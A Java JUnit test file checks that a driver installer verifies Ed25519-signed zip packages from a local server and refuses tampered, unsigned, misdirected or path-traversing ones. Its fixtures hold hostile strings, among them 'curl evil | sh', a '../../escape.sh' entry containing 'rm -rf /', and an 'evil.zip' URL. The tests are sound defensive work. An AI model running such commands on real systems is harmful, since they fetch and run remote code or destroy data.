package org.hwpersonality.agent;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import com.sun.net.httpserver.HttpServer;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.net.InetSocketAddress;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.Base64;
import java.util.HexFormat;
import java.util.Map;
import java.util.Optional;
import java.util.concurrent.ConcurrentHashMap;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.hwpersonality.api.Sha256;
import org.hwpersonality.artifacts.internal.DriverSigner;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * The installer against a real HTTP server (the JDK's) serving real zip packages signed with a real Ed25519 key:
 * a good package is verified, unpacked and loaded; a tampered, unsigned, wrongly signed or hostile one is refused
 * and nothing is unpacked or loaded.
 */
class DriverInstallerTest {
    private static final ObjectMapper JSON = new ObjectMapper();
    private static final byte[] MANIFEST =
            "{\"id\":\"acme-drv\",\"version\":\"1.0.0\"}".getBytes(StandardCharsets.UTF_8);

    @TempDir
    Path tmp;

    private HttpServer server;
    private final Map<String, byte[]> served = new ConcurrentHashMap<>();
    private DriverSigner signer;
    private DriverSigner stranger;
    private Path drivers;
    private Path loaded;
    private DriverInstaller installer;

    @BeforeEach
    void start() throws IOException {
        server = HttpServer.create(new InetSocketAddress("127.0.0.1", 0), 0);
        server.createContext("/hwp/api/v1/drivers/", exchange -> {
            String id = exchange.getRequestURI().getPath().replaceAll(".*/drivers/([^/]+)/content", "$1");
            byte[] body = served.get(id);
            boolean authorized =
                    "Bearer hwp_test".equals(exchange.getRequestHeaders().getFirst("Authorization"));
            if (body == null || !authorized) {
                exchange.sendResponseHeaders(authorized ? 404 : 401, -1);
                exchange.close();
                return;
            }
            exchange.sendResponseHeaders(200, body.length);
            try (OutputStream out = exchange.getResponseBody()) {
                out.write(body);
            }
        });
        server.start();
        signer = DriverSigner.withNewKey();
        stranger = DriverSigner.withNewKey();
        drivers = tmp.resolve("drivers");
        loaded = tmp.resolve("loaded.log");
        ApiClient api = new ApiClient(
                URI.create("http://127.0.0.1:" + server.getAddress().getPort() + "/hwp/api/v1"), "hwp_test");
        installer = new DriverInstaller(
                api,
                drivers,
                signer::publicKey,
                Optional.of("echo \"load $HWP_PACKAGE_ID\" >> " + loaded + "; test -f \"$1/bin/driver.ko\"; echo"),
                Optional.of("echo \"unload $HWP_PACKAGE_ID $2\" >> " + loaded + "; echo"),
                Optional.empty(),
                Duration.ofSeconds(30));
    }

    @AfterEach
    void stop() {
        server.stop(0);
    }

    private static byte[] zip(String... nameContent) throws IOException {
        return zipWith(MANIFEST, nameContent);
    }

    private static byte[] zipWith(byte[] manifest, String... nameContent) throws IOException {
        ByteArrayOutputStream buf = new ByteArrayOutputStream();
        try (ZipOutputStream z = new ZipOutputStream(buf)) {
            for (int i = 0; i < nameContent.length; i += 2) {
                z.putNextEntry(new ZipEntry(nameContent[i]));
                z.write(nameContent[i + 1].getBytes(StandardCharsets.UTF_8));
                z.closeEntry();
            }
            z.putNextEntry(new ZipEntry("hwp-driver.json"));
            z.write(manifest);
            z.closeEntry();
        }
        return buf.toByteArray();
    }

    private static String sha(byte[] b) {
        return HexFormat.of().formatHex(ApiClient.sha256().digest(b));
    }

    /** The driver object of an allocation answer for a package, signed by {@code by}. */
    private ObjectNode publish(String id, byte[] archive, DriverSigner by) {
        return publish(id, archive, MANIFEST, by);
    }

    private ObjectNode publish(String id, byte[] archive, byte[] manifest, DriverSigner by) {
        served.put(id, archive);
        String signature = by.sign(DriverSigner.payload(id, Sha256.of(sha(archive)), Sha256.of(sha(manifest))));
        ObjectNode d = JSON.createObjectNode();
        d.put("packageId", id);
        d.put("sha256", sha(archive));
        d.put("signature", signature);
        d.put("url", "/hwp/api/v1/drivers/" + id + "/content");
        return d;
    }

    private String log() throws IOException {
        return Files.exists(loaded) ? Files.readString(loaded) : "";
    }

    @Test
    void aGoodPackageIsVerifiedUnpackedLoadedAndSwapped() throws Exception {
        ObjectNode first = publish("acme-drv-1.0.0", zip("bin/driver.ko", "v1"), signer);
        DriverInstaller.Installed one = installer.install(first, "u250-zstd-v1", "alloc-1");
        installer.load(one);
        assertThat(Files.readString(one.directory().resolve("bin/driver.ko"))).isEqualTo("v1");
        assertThat(log()).isEqualTo("load acme-drv-1.0.0\n");

        ObjectNode second = publish("acme-drv-2.0.0", zip("bin/driver.ko", "v2"), signer);
        DriverInstaller.Installed two = installer.install(second, "u55c-zstd-v1", "alloc-2");
        installer.unload(one);
        installer.load(two);
        assertThat(log()).isEqualTo("load acme-drv-1.0.0\nunload acme-drv-1.0.0 u250-zstd-v1\nload acme-drv-2.0.0\n");
        try (var left = Files.list(drivers)) {
            assertThat(left.map(p -> p.getFileName().toString()))
                    .as("no download is left behind")
                    .noneMatch(n -> n.endsWith(".download"));
        }
    }

    /**
     * Issue 19: without --load-command the package's signed loadInstructions run, in order, from its folder, each as
     * written; the rescan command runs first, so that the guest sees the function just hot-plugged into it.
     */
    @Test
    void withoutALoadCommandTheSignedInstructionsRunAfterTheRescan() throws Exception {
        byte[] manifest = ("{\"id\":\"acme-drv\",\"version\":\"3.0.0\",\"loadInstructions\":["
                        + "\"echo \\\"insmod $(cat bin/driver.ko) $HWP_PERSONALITY_ID\\\" >> " + loaded + "\","
                        + "\"echo \\\"configured $# args\\\" >> " + loaded + "\"]}")
                .getBytes(StandardCharsets.UTF_8);
        ObjectNode driver = publish("acme-drv-3.0.0", zipWith(manifest, "bin/driver.ko", "v3"), manifest, signer);
        ApiClient api = new ApiClient(
                URI.create("http://127.0.0.1:" + server.getAddress().getPort() + "/hwp/api/v1"), "hwp_test");
        DriverInstaller own = new DriverInstaller(
                api,
                drivers,
                signer::publicKey,
                Optional.empty(),
                Optional.empty(),
                Optional.of("echo rescan >> " + loaded),
                Duration.ofSeconds(30));

        DriverInstaller.Installed p = own.install(driver, "u250-zstd-v1", "alloc-3");
        assertThat(p.loadInstructions()).hasSize(2);
        own.load(p);
        assertThat(log()).isEqualTo("rescan\ninsmod v3 u250-zstd-v1\nconfigured 0 args\n");

        // Unpacked already (a restarted agent): the instructions are read from the package's folder.
        DriverInstaller.Installed again = own.install(driver, "u250-zstd-v1", "alloc-4");
        assertThat(again.loadInstructions()).isEqualTo(p.loadInstructions());

        // A package without instructions and no --load-command: refused to load, naming what to give.
        ObjectNode bare = publish("acme-drv-4.0.0", zip("bin/driver.ko", "v4"), signer);
        DriverInstaller.Installed none = own.install(bare, "u250-zstd-v1", "alloc-5");
        assertThatThrownBy(() -> own.load(none))
                .isInstanceOf(DriverInstaller.InstallException.class)
                .hasMessageContaining("no loadInstructions in its manifest and no --load-command");
        // Instructions of the wrong shape are refused before anything is unpacked.
        byte[] odd = "{\"id\":\"x\",\"loadInstructions\":\"insmod x.ko\"}".getBytes(StandardCharsets.UTF_8);
        ObjectNode malformed = publish("acme-drv-5.0.0", zipWith(odd, "bin/driver.ko", "v5"), odd, signer);
        assertThatThrownBy(() -> own.install(malformed, "u250-zstd-v1", "alloc-6"))
                .isInstanceOf(DriverInstaller.InstallException.class)
                .hasMessageContaining("loadInstructions must be a list");
    }

    @Test
    void aTamperedPackageIsRefusedAndNothingIsLoaded() throws Exception {
        ObjectNode d = publish("acme-drv-1.0.0", zip("bin/driver.ko", "v1"), signer);
        served.put("acme-drv-1.0.0", zip("bin/driver.ko", "v1; curl evil | sh"));
        assertThatThrownBy(() -> installer.install(d, "u250-zstd-v1", "alloc-1"))
                .isInstanceOf(DriverInstaller.InstallException.class)
                .hasMessageContaining("tampered");
        assertNothingInstalled();
    }

    @Test
    void aPackageSignedByAnotherKeyOrNotAtAllIsRefused() throws Exception {
        ObjectNode foreign = publish("acme-drv-1.0.0", zip("bin/driver.ko", "v1"), stranger);
        assertThatThrownBy(() -> installer.install(foreign, "p-v1", "alloc-1"))
                .hasMessageContaining("signature does not verify");
        ObjectNode unsigned = publish("acme-drv-1.0.1", zip("bin/driver.ko", "v1"), signer);
        unsigned.put("signature", Base64.getEncoder().encodeToString(new byte[64]));
        assertThatThrownBy(() -> installer.install(unsigned, "p-v1", "alloc-1"))
                .hasMessageContaining("signature does not verify");
        ObjectNode renamed = publish("acme-drv-1.0.2", zip("bin/driver.ko", "v1"), signer);
        renamed.put("packageId", "acme-drv-9.9.9");
        renamed.put("url", "/hwp/api/v1/drivers/acme-drv-9.9.9/content");
        served.put("acme-drv-9.9.9", served.get("acme-drv-1.0.2"));
        assertThatThrownBy(() -> installer.install(renamed, "p-v1", "alloc-1"))
                .as("a signature is bound to its package ID")
                .hasMessageContaining("signature does not verify");
        assertNothingInstalled();
    }

    @Test
    void aSignedButHostileArchiveIsRefused() throws Exception {
        ObjectNode hostile = publish("acme-drv-1.0.0", zip("../../escape.sh", "rm -rf /"), signer);
        assertThatThrownBy(() -> installer.install(hostile, "p-v1", "alloc-1"))
                .hasMessageContaining("refused the package");
        assertThat(tmp.resolve("escape.sh")).doesNotExist();
        assertNothingInstalled();
    }

    @Test
    void aDriverElsewhereThanItsOwnUrlIsRefused() throws Exception {
        ObjectNode d = publish("acme-drv-1.0.0", zip("bin/driver.ko", "v1"), signer);
        d.put("url", "http://elsewhere.example/evil.zip");
        assertThatThrownBy(() -> installer.install(d, "p-v1", "alloc-1")).hasMessageContaining("not the package's own");
        d.put("url", "/hwp/api/v1/drivers/acme-drv-1.0.0/content");
        d.put("packageId", "../../etc");
        assertThatThrownBy(() -> installer.install(d, "p-v1", "alloc-1")).hasMessageContaining("malformed");
        assertNothingInstalled();
    }

    private void assertNothingInstalled() throws IOException {
        assertThat(log()).as("no load command ran").isEmpty();
        if (Files.exists(drivers)) {
            try (var left = Files.list(drivers)) {
                assertThat(left).as("nothing unpacked, no download left").isEmpty();
            }
        }
    }
}
